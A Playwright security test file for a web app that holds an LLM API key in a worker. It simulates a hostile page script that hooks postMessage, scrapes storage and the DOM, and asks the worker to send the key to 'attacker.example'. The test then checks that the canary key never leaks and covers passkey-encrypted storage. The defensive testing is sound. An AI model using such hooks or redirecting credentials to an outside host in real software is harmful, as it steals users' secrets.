// Issue 19: the API key out of reach of a page-level bug. The LLM worker holds the key; the page keeps
// only "••••last4". A script on the page (what an injected or buggy script could do) spies on every
// message and reads every store it can reach, and tries to use the worker to send the key elsewhere
// or to seal it under bytes of its own: the canary never appears, while the loop still works with the
// key against the scripted local server. "Remember on this device" encrypts the key under a passkey's
// PRF output (Chromium's CDP virtual authenticator stands in for the user's passkey and gesture).
import type { CDPSession, Page } from '@playwright/test';
import { readFile } from 'node:fs/promises';
import config from '../playwright.config.ts';
import { test as base, expect } from './fixtures.ts';
import { llmServerFixture, type BrowserLlmServer } from './llmServerFixture.ts';
import { LoopPanel, SettingsDialog } from './pages/LoopPanel.ts';

const test = base.extend<{ loop: LoopPanel; settings: SettingsDialog }, { llm: BrowserLlmServer }>({
  llm: llmServerFixture,
  loop: async ({ page }, use) => use(new LoopPanel(page)),
  settings: async ({ page }, use) => use(new SettingsDialog(page)),
});

const launch = config.use?.launchOptions ?? {};
test.use({ launchOptions: { ...launch, args: (launch.args ?? []).map((a) => (a.startsWith('--host-resolver-rules=') ? `${a} , EXCLUDE 127.0.0.1` : a)) } });

const KEY = 'sk-vault-canary-5f3e9a';
/** What of the key may never show up: the key, its distinctive middle, and its base64. */
const TRACES = [KEY, 'vault-canary', Buffer.from(KEY).toString('base64').slice(0, 16)];

/** Installs the spy a page-level bug would: every message to or from any worker, port or window is searched for the key. */
async function installSpies(page: Page): Promise<void> {
  await page.evaluate((key) => {
    const w = window as unknown as { __spy: { seen: number; leaks: string[]; workers: Worker[] } };
    w.__spy = { seen: 0, leaks: [], workers: [] };
    const look = (where: string, value: unknown) => {
      w.__spy.seen++;
      let text = '';
      try {
        text = typeof value === 'string' ? value : JSON.stringify(value) ?? '';
      } catch {
        text = String(value);
      }
      if (text.includes(key)) w.__spy.leaks.push(`${where}: ${text.slice(0, 200)}`);
    };
    const post = Worker.prototype.postMessage;
    Worker.prototype.postMessage = function (this: Worker, m: unknown, t?: unknown) {
      if (!w.__spy.workers.includes(this)) w.__spy.workers.push(this);
      look('Worker.postMessage', m);
      return (post as (m: unknown, t?: unknown) => void).call(this, m, t);
    } as typeof post;
    const portPost = MessagePort.prototype.postMessage;
    MessagePort.prototype.postMessage = function (this: MessagePort, m: unknown, t?: unknown) {
      look('MessagePort.postMessage', m);
      return (portPost as (m: unknown, t?: unknown) => void).call(this, m, t);
    } as typeof portPost;
    const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')!;
    Object.defineProperty(MessageEvent.prototype, 'data', {
      get() {
        const v = data.get!.call(this);
        look('MessageEvent.data', v);
        return v;
      },
    });
  }, KEY);
}

/** Everything a page script can read: storage, cookies, IndexedDB, the store, the DOM and its fields, and what the spies caught. */
async function readEverything(page: Page): Promise<string> {
  return page.evaluate(async () => {
    const idb: unknown[] = [];
    for (const { name } of await indexedDB.databases()) {
      const db = await new Promise<IDBDatabase>((r, j) => { const q = indexedDB.open(name!); q.onsuccess = () => r(q.result); q.onerror = () => j(q.error); });
      for (const store of [...db.objectStoreNames]) {
        idb.push(await new Promise((r) => { const q = db.transaction(store).objectStore(store).getAll(); q.onsuccess = () => r(q.result); }));
      }
      db.close();
    }
    const fields = [...document.querySelectorAll('input, textarea')].map((e) => (e as HTMLInputElement).value);
    const state = window.__studioTestApi!.getState();
    const spy = (window as unknown as { __spy: { leaks: string[] } }).__spy;
    return JSON.stringify({ local: { ...localStorage }, session: { ...sessionStorage }, cookie: document.cookie, idb, state, html: document.documentElement.outerHTML, fields, leaks: spy.leaks });
  });
}

function expectNoTrace(text: string, where: string) {
  for (const t of TRACES) expect(text, `${where} holds the key (${t})`).not.toContain(t);
}

test('the API key is used through the LLM worker, and no page script can read it or send it elsewhere', async ({ page, studio, llm, loop, settings }) => {
  test.setTimeout(180_000);
  await studio.open();
  await studio.newProjectFromWelcome('covid');
  await settings.open();
  await settings.fill({ baseURL: llm.baseURL, model: 'scripted-sir', apiKey: KEY });
  await settings.done();
  // The field gave the key to the worker and was emptied: Settings shows only the hint.
  await settings.open();
  await expect(page.getByTestId('settings.keyStatus')).toContainText('••••3e9a');
  await expect(page.getByTestId('settings.apiKey')).toHaveCount(0);
  await settings.done();

  // A page-level bug from here on.
  await installSpies(page);
  await studio.goto('loop');
  await loop.configure({ iterations: 1, patience: 1 });
  const before = llm.server.requests.length;
  await loop.start();
  await expect.poll(() => llm.server.requests.length, { timeout: 30_000 }).toBeGreaterThan(before);
  expect(llm.server.requests.at(-1)!.headers.authorization).toBe(`Bearer ${KEY}`); // the worker used the key
  await expect.poll(() => page.evaluate(() => (window as unknown as { __spy: { seen: number } }).__spy.seen)).toBeGreaterThan(3); // the spies saw the traffic
  const cancel = page.getByTestId('loop.cancel');
  if (await cancel.isVisible()) await cancel.click();
  await expect(loop.status()).not.toHaveAttribute('data-status', /running|cancelling/, { timeout: 60_000 });

  // The bug talks to the LLM worker itself: point the key at another server, seal it under its own bytes, ask its status.
  const misuse = await page.evaluate(async (elsewhere) => {
    const spy = (window as unknown as { __spy: { workers: Worker[] } }).__spy;
    const answers: unknown[] = [];
    for (const worker of spy.workers) {
      const ask = (m: Record<string, unknown>) =>
        new Promise((resolve) => {
          const id = 900_000 + answers.length;
          const on = (e: MessageEvent) => e.data?.id === id && (worker.removeEventListener('message', on), resolve(e.data));
          worker.addEventListener('message', on);
          worker.postMessage({ ...m, id });
          setTimeout(() => resolve('no answer'), 3000);
        });
      answers.push(await ask({ type: 'complete', binding: { provider: 'openai', baseURL: elsewhere }, request: { model: 'm', messages: [{ role: 'user', content: 'hi' }] } }));
      answers.push(await ask({ type: 'seal', prf: new Uint8Array(32).fill(7).buffer }));
      answers.push(await ask({ type: 'status' }));
      answers.push(await ask({ type: 'constructor', path: ['constructor', 'constructor'] }));
    }
    return JSON.stringify(answers);
  }, 'https://attacker.example/v1');
  expect(misuse).toContain('is not sent to');
  expect(misuse).toContain('only as it is entered');
  expect(misuse).toContain('••••3e9a');
  expectNoTrace(misuse, 'an answer of the LLM worker');

  expectNoTrace(await readEverything(page), 'what a page script can read');
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('project.export').click()]);
  expectNoTrace(await readFile((await download.path())!, 'utf8'), 'the project export');
});

/** A virtual passkey authenticator (CTAP2, user-verifying, PRF as asked), answering prompts by itself. */
async function virtualAuthenticator(page: Page, hasPrf: boolean): Promise<CDPSession> {
  const cdp = await page.context().newCDPSession(page);
  await cdp.send('WebAuthn.enable');
  await cdp.send('WebAuthn.addVirtualAuthenticator', {
    options: { protocol: 'ctap2', transport: 'internal', hasResidentKey: true, hasUserVerification: true, isUserVerified: true, hasPrf, automaticPresenceSimulation: true },
  });
  return cdp;
}

test('remember on this device: encrypted under a passkey, locked after a reload until the passkey unlocks it', async ({ page, studio, llm, settings }) => {
  test.setTimeout(120_000);
  await virtualAuthenticator(page, true);
  await studio.open();
  await studio.newProjectFromWelcome('covid');
  await settings.open();
  await page.getByTestId('settings.rememberKey').check();
  await settings.fill({ baseURL: llm.baseURL, model: 'scripted-sir', apiKey: KEY });
  await page.getByTestId('settings.model').click(); // leaves the key field: handed over, then sealed
  await expect(page.getByTestId('settings.keyStatus')).toHaveAttribute('data-key', 'remembered');
  await settings.done();
  const stored = await page.evaluate(() => localStorage.getItem('gsim.llm.rememberedKey'));
  expect(stored).toBeTruthy();
  expectNoTrace(stored!, 'the remembered key');

  await studio.reload();
  await installSpies(page);
  await settings.open();
  await expect(page.getByTestId('settings.keyStatus')).toHaveAttribute('data-key', 'locked');
  await expect(page.getByTestId('settings.keyStatus')).toContainText('••••3e9a');
  await page.getByTestId('settings.unlockKey').click(); // the browser's passkey prompt (answered by the virtual authenticator)
  await expect(page.getByTestId('settings.keyStatus')).toHaveAttribute('data-key', 'remembered');
  const before = llm.server.requests.length;
  await settings.testConnection();
  await expect(settings.testResult()).toHaveAttribute('data-ok', 'true');
  expect(llm.server.requests.slice(before).map((r) => r.headers.authorization)).toContain(`Bearer ${KEY}`);
  expectNoTrace(await readEverything(page), 'what a page script can read after the unlock');

  // Forget removes the remembered copy too.
  await page.getByTestId('settings.forgetKey').click();
  await expect(page.getByTestId('settings.apiKey')).toBeVisible();
  expect(await page.evaluate(() => localStorage.getItem('gsim.llm.rememberedKey'))).toBeNull();
});

test('a key an earlier version kept in plain text is removed with a notice; without passkey PRF the key is kept for the session only', async ({ page, studio, settings }) => {
  await virtualAuthenticator(page, false);
  await studio.open();
  await page.evaluate((key) => localStorage.setItem('gsim.llm.apiKey', key), KEY);
  await studio.reload();
  expect(await page.evaluate(() => localStorage.getItem('gsim.llm.apiKey'))).toBeNull();
  await expect(page.getByText('stored unencrypted in this browser').first()).toBeVisible();
  await settings.open();
  await expect(page.getByTestId('settings.keyNotice')).toContainText('Enter it again');

  await page.getByTestId('settings.rememberKey').check();
  await page.getByTestId('settings.apiKey').fill(KEY);
  await page.getByTestId('settings.model').click();
  await expect(page.getByTestId('settings.keyNotice')).toContainText('kept for this session only');
  await expect(page.getByTestId('settings.keyStatus')).toHaveAttribute('data-key', 'session');
  await expect(page.getByTestId('settings.rememberKey')).not.toBeChecked();
  expectNoTrace(JSON.stringify(await page.evaluate(() => ({ ...localStorage }))), 'localStorage');
});
